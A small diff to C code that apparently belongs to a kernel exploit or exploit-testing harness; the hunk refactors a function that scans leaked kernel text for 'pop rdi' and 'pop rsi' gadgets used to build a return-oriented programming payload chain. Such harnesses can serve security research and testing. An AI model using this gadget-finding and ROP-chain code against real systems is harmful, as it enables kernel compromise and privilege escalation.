@@ -54,15 +54,15 @@ static void chain_load(struct chain *chain, const struct gadget *gadget, uint64_
 
 static void find_gadgets(const struct bw_leak *leak, struct gadget *pop_rdi, struct gadget *pop_rsi)
 {
-	size_t nr_bytes;
-	const uint8_t *text = gadget_text(leak, &nr_bytes);
+	struct gadget_text text;
 
-	if (!gadget_find(text, nr_bytes, leak->image_base, GADGET_RDI, pop_rdi) ||
-	    !gadget_find(text, nr_bytes, leak->image_base, GADGET_RSI, pop_rsi)) {
+	gadget_text_open(&text, leak);
+	if (!gadget_find(&text, leak->image_base, GADGET_RDI, pop_rdi) ||
+	    !gadget_find(&text, leak->image_base, GADGET_RSI, pop_rsi)) {
 		attack_skip("the kernel's text holds no gadget for rdi and rsi");
 	}
 	attack_say("gadgets in %zu bytes of kernel text: pop rdi at 0x%lx, pop rsi at 0x%lx",
-		   nr_bytes, pop_rdi->address, pop_rsi->address);
+		   text.nr_read, pop_rdi->address, pop_rsi->address);
 }
 
 uint64_t payload_chain(void *page, uint64_t seen_at, const struct bw_leak *leak,
